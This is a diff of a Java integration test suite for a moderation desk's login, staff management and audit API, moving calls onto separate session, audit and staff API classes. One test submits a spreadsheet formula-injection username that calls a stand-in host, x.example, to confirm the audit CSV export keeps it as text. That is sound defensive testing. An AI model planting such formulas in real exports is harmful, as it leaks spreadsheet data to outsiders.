@@ -4,6 +4,9 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.catchThrowable;
 
 import dev.moddesk.app.api.ApiClient;
+import dev.moddesk.app.api.AuditApi;
+import dev.moddesk.app.api.StaffApi;
+import dev.moddesk.app.api.SessionApi;
 import dev.moddesk.app.api.ApiException;
 import dev.moddesk.app.api.AuditQuery;
 import dev.moddesk.app.audit.AuditLogSource;
@@ -74,16 +77,16 @@ class RealServerTest {
     @Test
     void compatibleAndHealthy() throws Exception {
         ApiClient api = client();
-        assertThat(get(api.checkCompatible()).sandbox()).isTrue();
-        assertThat(get(api.health()).up()).isTrue();
+        assertThat(get(new SessionApi(api).checkCompatible()).sandbox()).isTrue();
+        assertThat(get(new SessionApi(api).health()).up()).isTrue();
     }
 
     @Test
     void wrongPasswordIsBadCredentialsAndTheLoginIsAudited() throws Exception {
-        assertThat(failure(client().login("admin", "not-the-password")).is(ProblemType.BAD_CREDENTIALS)).isTrue();
+        assertThat(failure(new SessionApi(client()).login("admin", "not-the-password")).is(ProblemType.BAD_CREDENTIALS)).isTrue();
         ApiClient admin = signedIn(Role.ADMIN);
-        assertThat(get(admin.me()).role()).isEqualTo(Role.ADMIN);
-        List<AuditEntry> logins = get(admin.audit(new AuditQuery("admin", "session.login", null, null, null, null, null, 50))).items();
+        assertThat(get(new SessionApi(admin).me()).role()).isEqualTo(Role.ADMIN);
+        List<AuditEntry> logins = get(new AuditApi(admin).page(new AuditQuery("admin", "session.login", null, null, null, null, null, 50))).items();
         assertThat(logins).isNotEmpty();
     }
 
@@ -91,10 +94,10 @@ class RealServerTest {
     void aFormulaTriedAsAUsernameIsExportedAsTextNotAsAFormula(@TempDir Path dir) throws Exception {
         // Anyone can reach the audit log without signing in: a failed sign-in records the username tried.
         String attack = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
-        assertThat(failure(client().login(attack, "whatever-password")).is(ProblemType.BAD_CREDENTIALS)).isTrue();
+        assertThat(failure(new SessionApi(client()).login(attack, "whatever-password")).is(ProblemType.BAD_CREDENTIALS)).isTrue();
 
         ApiClient admin = signedIn(Role.ADMIN);
-        AuditViewModel vm = new AuditViewModel(AuditLogSource.of(admin),
+        AuditViewModel vm = new AuditViewModel(AuditLogSource.of(new AuditApi(admin)),
                 new ErrorMessages(new I18n(Locale.ENGLISH)), Runnable::run, java.time.ZoneOffset.UTC);
         vm.actorProperty().set(attack);
         Path file = dir.resolve("audit.csv");
@@ -108,32 +111,32 @@ class RealServerTest {
     @Test
     void adminManagesStaffAndEveryChangeIsAudited() throws Exception {
         ApiClient admin = signedIn(Role.ADMIN);
-        ApiException invalid = failure(admin.createStaff(new CreateStaffRequest("X", "", "short", Role.OPS, List.of())));
+        ApiException invalid = failure(new StaffApi(admin).create(new CreateStaffRequest("X", "", "short", Role.OPS, List.of())));
         assertThat(invalid.is(ProblemType.VALIDATION)).isTrue();
         assertThat(invalid.problem().orElseThrow().errors()).extracting(e -> e.field()).contains("username", "password");
 
-        StaffMember created = get(admin.createStaff(new CreateStaffRequest("zhou.min", "周敏", "long-enough-123", Role.MODERATOR, List.of("成都"))));
+        StaffMember created = get(new StaffApi(admin).create(new CreateStaffRequest("zhou.min", "周敏", "long-enough-123", Role.MODERATOR, List.of("成都"))));
         assertThat(created.cityScopes()).containsExactly("成都");
-        ApiException taken = failure(admin.createStaff(new CreateStaffRequest("zhou.min", "周敏", "long-enough-123", Role.MODERATOR, List.of())));
+        ApiException taken = failure(new StaffApi(admin).create(new CreateStaffRequest("zhou.min", "周敏", "long-enough-123", Role.MODERATOR, List.of())));
         assertThat(taken.problem().orElseThrow().status()).isEqualTo(409);
 
-        assertThat(get(admin.updateStaff(created.id(), new UpdateStaffRequest(null, Role.OPS, List.of("成都", "杭州")))).role()).isEqualTo(Role.OPS);
-        assertThat(get(admin.disableStaff(created.id())).disabled()).isTrue();
-        assertThat(get(admin.enableStaff(created.id())).disabled()).isFalse();
-        get(admin.resetPassword(created.id(), "another-long-one-1"));
+        assertThat(get(new StaffApi(admin).update(created.id(), new UpdateStaffRequest(null, Role.OPS, List.of("成都", "杭州")))).role()).isEqualTo(Role.OPS);
+        assertThat(get(new StaffApi(admin).disable(created.id())).disabled()).isTrue();
+        assertThat(get(new StaffApi(admin).enable(created.id())).disabled()).isFalse();
+        get(new StaffApi(admin).resetPassword(created.id(), "another-long-one-1"));
 
-        List<AuditEntry> history = get(admin.audit(new AuditQuery(null, null, "staff", Long.toString(created.id()), null, null, null, 50))).items();
+        List<AuditEntry> history = get(new AuditApi(admin).page(new AuditQuery(null, null, "staff", Long.toString(created.id()), null, null, null, 50))).items();
         assertThat(history).extracting(AuditEntry::action)
                 .contains("staff.create", "staff.update", "staff.disable", "staff.enable", "staff.password_reset");
-        assertThat(get(admin.auditActions())).contains("staff.create", "session.login");
+        assertThat(get(new AuditApi(admin).actions())).contains("staff.create", "session.login");
     }
 
     @Test
     void auditPagesFollowTheCursorWithoutRepeats() throws Exception {
         ApiClient admin = signedIn(Role.ADMIN);
-        var first = get(admin.audit(AuditQuery.firstPage(2)));
+        var first = get(new AuditApi(admin).page(AuditQuery.firstPage(2)));
         assertThat(first.nextCursor()).isNotNull();
-        var second = get(admin.audit(AuditQuery.firstPage(2).withCursor(first.nextCursor())));
+        var second = get(new AuditApi(admin).page(AuditQuery.firstPage(2).withCursor(first.nextCursor())));
         assertThat(second.items()).extracting(AuditEntry::id).doesNotContainAnyElementsOf(first.items().stream().map(AuditEntry::id).toList());
         assertThat(second.items().getFirst().id()).isLessThan(first.items().getLast().id());
     }
@@ -141,31 +144,31 @@ class RealServerTest {
     @Test
     void moderatorMayNotManageStaffAndSeesOnlyTheirOwnAudit() throws Exception {
         ApiClient moderator = signedIn(Role.MODERATOR);
-        assertThat(failure(moderator.staff()).is(ProblemType.FORBIDDEN)).isTrue();
-        assertThat(get(moderator.audit(AuditQuery.firstPage(100))).items()).extracting(AuditEntry::actor).containsOnly("moderator");
+        assertThat(failure(new StaffApi(moderator).list()).is(ProblemType.FORBIDDEN)).isTrue();
+        assertThat(get(new AuditApi(moderator).page(AuditQuery.firstPage(100))).items()).extracting(AuditEntry::actor).containsOnly("moderator");
     }
 
     @Test
     void disablingAnAccountEndsItsSessionAtOnce() throws Exception {
         ApiClient admin = signedIn(Role.ADMIN);
-        StaffMember leaver = get(admin.createStaff(new CreateStaffRequest("e2e.leaver", "离职员工", "leaving-soon-123",
+        StaffMember leaver = get(new StaffApi(admin).create(new CreateStaffRequest("e2e.leaver", "离职员工", "leaving-soon-123",
                 Role.MODERATOR, List.of())));
         ApiClient theirs = client();
-        get(theirs.login("e2e.leaver", "leaving-soon-123"));
-        assertThat(get(theirs.me()).username()).isEqualTo("e2e.leaver");
+        get(new SessionApi(theirs).login("e2e.leaver", "leaving-soon-123"));
+        assertThat(get(new SessionApi(theirs).me()).username()).isEqualTo("e2e.leaver");
 
-        get(admin.disableStaff(leaver.id()));
+        get(new StaffApi(admin).disable(leaver.id()));
 
-        assertThat(failure(theirs.me()).is(ProblemType.UNAUTHORIZED)).isTrue();
-        assertThat(failure(client().login("e2e.leaver", "leaving-soon-123")).is(ProblemType.ACCOUNT_DISABLED)).isTrue();
+        assertThat(failure(new SessionApi(theirs).me()).is(ProblemType.UNAUTHORIZED)).isTrue();
+        assertThat(failure(new SessionApi(client()).login("e2e.leaver", "leaving-soon-123")).is(ProblemType.ACCOUNT_DISABLED)).isTrue();
     }
 
     @Test
     void signOutEndsTheSession() throws Exception {
         ApiClient ops = signedIn(Role.OPS);
-        get(ops.logout());
+        get(new SessionApi(ops).logout());
         ops.useToken(null);
-        assertThat(failure(ops.me()).is(ProblemType.UNAUTHORIZED)).isTrue();
+        assertThat(failure(new SessionApi(ops).me()).is(ProblemType.UNAUTHORIZED)).isTrue();
     }
 
     /** Last: the server throttles by client address too, and every test here comes from 127.0.0.1. */
@@ -175,7 +178,7 @@ class RealServerTest {
         ErrorMessages messages = new ErrorMessages(new I18n(Locale.ENGLISH));
         ApiException last = null;
         for (int i = 0; i < 20; i++) {
-            last = failure(client().login("throttle.probe", "wrong-" + i));
+            last = failure(new SessionApi(client()).login("throttle.probe", "wrong-" + i));
             if (last.is(ProblemType.TOO_MANY_REQUESTS)) {
                 break;
             }
